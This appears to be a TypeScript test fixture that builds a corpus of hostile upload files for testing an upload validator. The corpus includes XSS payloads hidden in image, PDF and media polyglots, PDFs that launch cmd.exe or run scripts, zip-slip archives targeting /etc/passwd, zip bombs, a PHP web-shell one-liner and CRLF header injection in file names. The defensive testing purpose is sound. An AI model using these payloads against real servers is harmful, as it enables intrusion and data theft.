import { deflateSync } from 'node:zlib'
import { type Zippable, zipSync } from 'fflate'

/** A file that somebody hands in: what it is, under which name, and as what a careless server would send it. */
export interface Handed {
  readonly what: string
  readonly name: string
  readonly carelessly: string
  readonly bytes: Buffer
  /** Good for what it says; it must be taken. */
  readonly good?: true
}

const latin = (text: string): Buffer => Buffer.from(text, 'latin1')
const png = latin('\x89PNG\r\n\x1a\n')
const jpeg = latin('\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00')

const chunk = (type: string, data: Buffer): Buffer => {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  return Buffer.concat([length, latin(type), data, Buffer.alloc(4)])
}
const picture = (width: number, height: number, rest: Buffer = Buffer.alloc(0)): Buffer => {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head[8] = 1
  return Buffer.concat([png, chunk('IHDR', head), rest, chunk('IDAT', deflateSync(Buffer.alloc(64))), chunk('IEND', Buffer.alloc(0))])
}
const photo = (width: number, height: number): Buffer => {
  const frame = Buffer.from([
    0xff,
    0xc0,
    0,
    17,
    8,
    height >> 8,
    height & 255,
    width >> 8,
    width & 255,
    3,
    1,
    0x22,
    0,
    2,
    0x11,
    1,
    3,
    0x11,
    1,
  ])
  return Buffer.concat([jpeg, frame, latin('\xff\xda\x00\x0c'), Buffer.alloc(32), latin('\xff\xd9')])
}

const text = (words: string): Uint8Array => new TextEncoder().encode(words)
const kinds = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
const zip = (files: Zippable): Buffer => Buffer.from(zipSync(files))
const docx = (more: Zippable = {}): Buffer =>
  zip({ '[Content_Types].xml': text(kinds), 'word/document.xml': text('<w:document/>'), ...more })
const rels = (type: string, target: string): Uint8Array =>
  text(
    `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  )

/** The sizes that a directory promises are changed; what is packed stays. */
function promising(archive: Buffer, unpacked: number): Buffer {
  const changed = Buffer.from(archive)
  for (let at = changed.indexOf('PK\x01\x02', 0, 'latin1'); at >= 0; at = changed.indexOf('PK\x01\x02', at + 4, 'latin1'))
    changed.writeUInt32LE(unpacked, at + 24)
  return changed
}
function linked(archive: Buffer): Buffer {
  const changed = Buffer.from(archive)
  const at = changed.lastIndexOf('PK\x01\x02', undefined, 'latin1')
  changed.writeUInt32LE(0xa1ff0000, at + 38)
  return changed
}
const pdf = (objects: string, head = '%PDF-1.7\n'): Buffer =>
  latin(
    `${head}1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${objects} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n`,
  )
const packedPdf = (objects: string): Buffer => {
  const stream = deflateSync(latin(`1 0 << ${objects} >>`))
  return Buffer.concat([
    latin(`%PDF-1.7\n3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${stream.length} >>\nstream\n`),
    stream,
    latin('\nendstream\nendobj\n%%EOF\n'),
  ])
}

type Row = readonly [what: string, name: string, carelessly: string, make: (hit: string) => Buffer, good?: true]

const script = (hit: string): string => `<script>fetch('${hit}');alert(1)</script>`
const page = (hit: string): string => `<!DOCTYPE html><html><body>${script(hit)}<img src=x onerror="fetch('${hit}')"></body></html>`
const svg = (hit: string): string => `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${hit}')">${script(hit)}</svg>`
const js = (hit: string): string => `/*a*/fetch('${hit}')`
const html = 'text/html'

const made: readonly Row[] = [
  ['page', 'a.html', html, (n) => latin(page(n))],
  ['page called a picture', 'a.jpg', html, (n) => latin(page(n))],
  ['page called a PDF', 'a.pdf', html, (n) => latin(page(n))],
  ['page after line ends', 'a.txt', html, (n) => latin(`\n\n  ${page(n)}`)],
  ['page after a mark', 'a.txt', html, (n) => Buffer.from(`\ufeff${page(n)}`)],
  ['page in UTF-16', 'a.txt', html, (n) => Buffer.from(`\ufeff${page(n)}`, 'utf16le')],
  ['page in UTF-7', 'a.txt', html, () => latin('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')],
  ['page after words', 'b.txt', html, (n) => latin(`words\n${page(n)}`)],
  ['page after two thousand words', 'c.txt', html, (n) => latin(`${'word '.repeat(400)}${page(n)}`)],
  ['SVG', 'a.svg', 'image/svg+xml', (n) => latin(svg(n))],
  ['SVG called a picture', 'a.png', 'image/svg+xml', (n) => latin(svg(n))],
  ['SVG after a declaration', 'b.svg', 'image/svg+xml', (n) => latin(`<?xml version="1.0"?>\n${svg(n)}`)],
  ['SVG after a comment', 'c.svg', 'image/svg+xml', (n) => latin(`<!-- x -->${svg(n)}`)],
  ['packed SVG', 'a.svgz', 'image/svg+xml', (n) => deflateSync(latin(svg(n)))],
  [
    'XHTML',
    'a.xhtml',
    'application/xhtml+xml',
    (n) => latin(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>fetch('${n}')</script></html>`),
  ],
  ['XSLT', 'a.xml', 'text/xml', (n) => latin(`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#"?><x>${n}</x>`)],
  ['script', 'a.js', 'text/javascript', (n) => latin(js(n))],
  ['script called a text', 'd.txt', html, (n) => latin(`${js(n)}\n${script(n)}`)],
  ['shell', 'a.sh', 'text/plain', () => latin('#!/bin/sh\nid\n')],
  ['GIF with a page', 'a.gif', html, (n) => latin(`GIF89a/*${page(n)}*/=1;${js(n)}`)],
  ['GIF', 'b.gif', 'image/gif', () => latin('GIF89a\x01\x00\x01\x00\x80\x00\x00')],
  ['BMP with a script', 'a.bmp', html, (n) => latin(`BM${page(n)}`)],
  ['program', 'a.exe', 'application/octet-stream', () => latin(`MZ${'\x00'.repeat(200)}PE\x00\x00`)],
  ['program called a picture', 'b.jpg', html, () => latin(`MZ${'\x00'.repeat(200)}`)],
  ['ELF', 'a.out', 'application/octet-stream', () => latin('\x7fELF\x02\x01\x01')],
  ['Java class', 'a.class', 'application/java', () => latin('\xca\xfe\xba\xbe\x00\x00\x00\x34')],
  ['jar', 'a.jar', 'application/java', () => zip({ 'META-INF/MANIFEST.MF': text('Main-Class: A'), 'A.class': text('x') })],
  ['JPEG with a page', 'c.jpg', html, (n) => Buffer.concat([jpeg, latin(page(n))])],
  [
    'JPEG with a page in its comment',
    'd.jpg',
    html,
    (n) => Buffer.concat([jpeg, latin('\xff\xfe\x01\x00'), latin(page(n)), latin('\xff\xd9')]),
  ],
  ['JPEG with a page far inside', 'e.jpg', html, (n) => Buffer.concat([photo(8, 8), Buffer.alloc(2_000, 65), latin(page(n))])],
  ['JPEG with an archive behind it', 'f.jpg', 'application/zip', () => Buffer.concat([photo(8, 8), zip({ 'evil.jar': text('x') })])],
  ['JPEG of 60,000 × 60,000', 'g.jpg', 'image/jpeg', () => photo(60_000, 60_000)],
  ['PNG with a page in a chunk', 'b.png', html, (n) => picture(8, 8, chunk('tEXt', latin(page(n))))],
  ['PNG with a PDF in a chunk', 'c.png', 'application/pdf', () => picture(8, 8, chunk('tEXt', latin('%PDF-1.7')))],
  ['PNG of 50,000 × 50,000', 'd.png', 'image/png', () => picture(50_000, 50_000)],
  ['PNG of 4,000,000,000 × 1', 'e.png', 'image/png', () => picture(4_000_000_000, 1)],
  ['PNG with an archive behind it', 'f.png', 'application/zip', () => Buffer.concat([picture(8, 8), zip({ a: text('x') })])],
  ['PDF with a page at its head', 'b.pdf', html, (n) => pdf('', `%PDF-1.4\n${page(n)}\n`)],
  ['PDF with a script', 'c.pdf', 'application/pdf', (n) => pdf(`/OpenAction << /S /JavaScript /JS (app.launchURL('${n}')) >>`)],
  [
    'PDF with a script under another spelling',
    'd.pdf',
    'application/pdf',
    () => pdf('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>'),
  ],
  ['PDF with a script in packed objects', 'e.pdf', 'application/pdf', () => packedPdf('/S /JavaScript /JS (app.alert(1))')],
  ['PDF that starts a program', 'f.pdf', 'application/pdf', () => pdf('/OpenAction << /S /Launch /F (cmd.exe) >>')],
  ['PDF that sends its form', 'g.pdf', 'application/pdf', (n) => pdf(`/AA << /O << /S /SubmitForm /F (${n}) >> >>`)],
  ['PDF with XFA', 'h.pdf', 'application/pdf', () => pdf('/AcroForm << /XFA 5 0 R >>')],
  ['PDF with an archive behind it', 'i.pdf', 'application/zip', () => Buffer.concat([pdf(''), zip({ a: text('x') })])],
  ['PDF with a film', 'j.pdf', 'application/pdf', () => pdf('/Annots [<< /Subtype /RichMedia >>]')],
  ['archive', 'a.zip', 'application/zip', () => zip({ 'a.txt': text('x') })],
  ['archive that leads up', 'b.docx', 'application/zip', () => docx({ '../../etc/cron.d/x': text('x') })],
  ['archive that leads to the root', 'c.docx', 'application/zip', () => docx({ '/etc/passwd': text('x') })],
  ['archive with a drive', 'd.docx', 'application/zip', () => docx({ 'C:\\x': text('x') })],
  ['archive with a link', 'e.docx', 'application/zip', () => linked(docx({ link: text('/etc/passwd') }))],
  ['archive bomb', 'f.docx', 'application/zip', () => docx({ 'word/media/a.bin': [new Uint8Array(60 * 1024 * 1024), { level: 9 }] })],
  ['archive that promises 4 GB', 'g.docx', 'application/zip', () => promising(docx(), 0xf0000000)],
  [
    'archive of ten thousand files',
    'h.docx',
    'application/zip',
    () => docx(Object.fromEntries(Array.from({ length: 6_000 }, (_, i) => [`word/${i}`, text('')]))),
  ],
  ['archive in archives', 'i.zip', 'application/zip', () => zip({ 'a.zip': zip({ 'b.zip': zip({ c: new Uint8Array(1_000_000) }) }) })],
  ['archive without a directory', 'j.docx', 'application/zip', () => docx().subarray(0, -40)],
  ['document with macros', 'k.docm', 'application/zip', () => docx({ 'word/vbaProject.bin': text('x') })],
  [
    'document with macros under another name',
    'l.docx',
    'application/zip',
    () =>
      zip({
        '[Content_Types].xml': text(
          kinds.replace('/>', '><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'),
        ),
        'word/document.xml': text('x'),
      }),
  ],
  ['document with a control', 'm.docx', 'application/zip', () => docx({ 'word/activeX/activeX1.xml': text('x') })],
  [
    'document with a template from elsewhere',
    'n.docx',
    'application/zip',
    (n) => docx({ 'word/_rels/settings.xml.rels': rels('attachedTemplate', n) }),
  ],
  [
    'document with a picture from elsewhere',
    'o.docx',
    'application/zip',
    (n) => docx({ 'word/_rels/document.xml.rels': rels('image', n) }),
  ],
  ['document with a page in it', 'p.docx', 'application/zip', (n) => docx({ 'word/afchunk.htm': text(page(n)) })],
  ['spreadsheet', 'a.xlsx', 'application/zip', () => zip({ '[Content_Types].xml': text(kinds), 'xl/workbook.xml': text('x') })],
  ['EICAR', 'eicar.com', 'text/plain', () => latin('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*')],
  ['MP4 with a page', 'a.mp4', html, (n) => latin(`\x00\x00\x00\x18ftypmp42${page(n)}`)],
  ['MP3 with a page', 'a.mp3', html, (n) => latin(`ID3\x04\x00${page(n)}`)],
  ['PHP', 'a.php', html, () => latin('<?php system($_GET[0]);')],
  ['nothing', 'empty.pdf', 'application/pdf', () => Buffer.alloc(0)],
  ['zero bytes', 'zeros.pdf', 'application/pdf', () => Buffer.alloc(4_096)],
  ['name that is a path', '../../etc/passwd', 'application/pdf', () => pdf(''), true],
  ['name that is a page', '"><img src=x onerror=alert(1)>.pdf', 'application/pdf', () => pdf('/Lang (x)'), true],
  ['name with line ends', 'a\r\nSet-Cookie: x=1\r\n.pdf', 'application/pdf', () => pdf('/Lang (y)'), true],
  ['PDF', 'good.pdf', 'application/pdf', () => pdf('/Lang (zh)'), true],
  ['PNG', 'good.png', 'image/png', () => picture(800, 600), true],
  ['JPEG', 'good.jpg', 'image/jpeg', () => photo(4_000, 3_000), true],
  [
    'document',
    'good.docx',
    'application/zip',
    () => docx({ 'word/_rels/document.xml.rels': rels('hyperlink', 'https://example.com/') }),
    true,
  ],
  ['text', 'good.txt', 'text/plain', () => Buffer.from('第一条 为了……\n'), true],
]

/** @param hit address that scripts in the files ask for when they run */
export const uploadCorpus = (hit: (name: string) => string): Handed[] =>
  made.map(([what, name, carelessly, make, good], i) => ({ what, name, carelessly, bytes: make(hit(`f${i}`)), ...(good && { good }) }))
